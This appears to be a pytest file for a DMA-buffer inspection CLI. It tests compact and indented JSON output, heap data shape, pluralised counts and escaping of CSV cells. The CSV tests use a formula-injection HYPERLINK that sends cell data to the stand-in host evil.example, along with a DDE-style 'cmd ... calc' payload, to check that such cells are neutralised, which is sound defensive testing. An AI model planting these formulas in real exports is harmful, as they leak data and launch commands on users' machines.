"""What the commands print: JSON compact or indented, one heaps shape, CSV cells that a spreadsheet
cannot run, and counts in good grammar (issue 12, items 11 and 12; #11 item 4)."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from paths import FIXTURES
from tui_fakes import synthetic

from dmabuf_inspect.cli.main import main
from dmabuf_inspect.cli.tables import csv_cell, render_csv
from dmabuf_inspect.kernel.reader import Roots
from dmabuf_inspect.model import Fence
from dmabuf_inspect.scan import jsonout
from dmabuf_inspect.scan.jsonout import snapshot_to_dict
from dmabuf_inspect.scan.snapshot import collect
from dmabuf_inspect.scan.views import plural

K612 = str(FIXTURES / "k6.12")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1)'


def test_dump_to_a_pipe_is_compact_json_on_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--tree", K612, "dump", "-q"]) == 0
    out = capsys.readouterr().out
    assert out.count("\n") == 1 and out.endswith("}\n")
    assert '": ' not in out and '", "' not in out  # no spaces after the separators
    assert json.loads(out)["schema"] == "dmabuf-inspect/1"


@pytest.mark.parametrize(("argv", "indent"), [(["--indent"], 2), (["--indent", "4"], 4)])
def test_dump_indent_is_json_dumps_with_indent(
    argv: list[str], indent: int, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["--tree", K612, "dump", "-q", *argv]) == 0
    out = capsys.readouterr().out
    doc = json.loads(out)
    assert out == json.dumps(doc, indent=indent) + "\n"


def test_dump_refuses_a_bad_indent(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exc:
        main(["--tree", K612, "dump", "--indent", "x"])
    assert exc.value.code == 2
    assert "not a number of spaces" in capsys.readouterr().err


@pytest.fixture(params=["c", "python"])
def writer(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Each test of the written text runs with the C writer (_fdwalk.weave) and without it."""
    if request.param == "c":
        assert jsonout.c_weave_columns is not None, "the C extension is built for the tests (tests/run.sh installs gcc)"
    else:
        monkeypatch.setattr(jsonout, "_weave_columns", None)
    return str(request.param)


@pytest.mark.parametrize("name", ["k6.12", "k7.3", "hostile-links", "k4.19-legacy"])
def test_written_json_is_the_document_byte_for_byte(name: str, writer: str) -> None:
    snap = collect(Roots.from_tree(str(FIXTURES / name)))
    out = io.StringIO()
    jsonout.write(snap, out)
    assert out.getvalue() == json.dumps(snapshot_to_dict(snap), separators=(",", ":")) + "\n"


def test_written_json_of_many_buffers_is_the_document(writer: str) -> None:
    snap = synthetic(2500, 40)
    out = io.StringIO()
    jsonout.write(snap, out)
    doc = json.loads(out.getvalue())
    assert len(doc["buffers"]) == len(snap.buffers)
    assert out.getvalue() == json.dumps(snapshot_to_dict(snap), separators=(",", ":")) + "\n"


def test_processes_carry_start_ticks(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--tree", K612, "dump", "-q"]) == 0
    processes = json.loads(capsys.readouterr().out)["processes"]
    assert processes and all("start_ticks" in p for p in processes)
    assert all(isinstance(p["start_ticks"], int) for p in processes)


def test_heaps_json_has_one_shape_in_dump_and_in_heaps(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--tree", K612, "dump", "-q"]) == 0
    dump = json.loads(capsys.readouterr().out)
    assert main(["--tree", K612, "heaps", "--json"]) == 0
    heaps = json.loads(capsys.readouterr().out)
    assert dump["heaps"] == heaps["heaps"]
    assert dump["heaps"] == [{"name": "system", "dev_path": f"{K612}/dev/dma_heap/system", "major": 251, "minor": 0}]
    assert dump["udmabuf"] == heaps["udmabuf"]


def test_one_buffer_is_one_buffer(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--tree", str(FIXTURES / "hostile-links"), "list"]) == 0
    out = capsys.readouterr().out
    assert "\n1 buffer, 4.0 KiB in all" in out
    assert "1 buffers" not in out


@pytest.mark.parametrize(
    ("n", "word", "text"),
    [(0, "buffer", "0 buffers"), (1, "buffer", "1 buffer"), (2, "process", "2 processes"), (1, "process", "1 process")],
)
def test_plural(n: int, word: str, text: str) -> None:
    assert plural(n, word) == text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_get_a_quote(start: str) -> None:
    assert csv_cell(f"{start}1+2") == f"'{start}1+2"
    rows = list(csv.reader(io.StringIO(render_csv(["name"], [[f"{start}cmd|' /C calc'!A0"]]))))
    assert rows[1] == [f"'{start}cmd|' /C calc'!A0"]


def test_csv_text_cells_are_quoted_and_numbers_are_not() -> None:
    text = render_csv(["pid", "comm"], [[12, 'a"b,c;=d'], [-3, None]])
    assert text == '"pid","comm"\n12,"a""b,c;=d"\n-3,""\n'


def test_a_buffer_named_like_a_formula_is_text_in_the_csv(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    tree = tmp_path / "tree"
    shutil.copytree(K612, tree, symlinks=True)
    for path in tree.rglob("*"):
        if path.is_file() and not path.is_symlink() and b"camera-preview" in path.read_bytes():
            path.write_bytes(path.read_bytes().replace(b"camera-preview", HYPERLINK.encode()))
    assert main(["--tree", str(tree), "buffers", "--csv"]) == 0
    out = capsys.readouterr().out
    rows = {r["inode"]: r for r in csv.DictReader(io.StringIO(out))}
    assert rows["30002"]["name"] == "'" + HYPERLINK
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1)"' in out


def test_names_fences_and_odd_values_are_written_as_json_writes_them(writer: str) -> None:
    snap = synthetic(40, 3)
    odd = [
        snap.buffers[0]._replace(
            name='caf\u00e9 \udcff\n"q"',
            count=None,
            kernel_refs=None,
            holders_known=False,
            fences=(Fence("write", "vgem", "unbound", "1", "1", False), Fence("read", "d\u00e9", "t", "", None, True)),
        ),
        snap.buffers[1]._replace(name=HYPERLINK, holders=(), attachments=("0000:00:02.0", "vgem")),
        snap.buffers[2]._replace(name=None, exporter="\u00e9xp", size_source="bufinfo"),
    ]
    buffers = [*odd, *snap.buffers[3:]]
    assert jsonout.buffers_json(buffers) == ",".join(
        json.dumps(jsonout.buffer_to_dict(b), separators=(",", ":")) for b in buffers
    )


@pytest.mark.parametrize(
    "value",
    [
        None,
        True,
        False,
        0,
        -17,
        2**70,
        1796186084.364756,
        0.1,
        -0.0,
        float("inf"),
        float("-inf"),
        float("nan"),
        "",
        'a"b\\c/\n\t\x00\x1f\x7f',
        "é ü 日本 \u2028 \U0001f600",
        "\udcff\ud800",
        [],
        (),
        {},
        [1, "x", None, [True, {"k": (2, 3)}]],
        {"z": 1, "a": {"nested": [0.5, "s"]}, "": None},
    ],
)
def test_compact_is_json_dumps_compact(value: object) -> None:
    assert jsonout.compact(value) == json.dumps(value, separators=(",", ":"))


def test_compact_refuses_what_json_refuses() -> None:
    with pytest.raises(TypeError):
        jsonout.compact({1, 2})
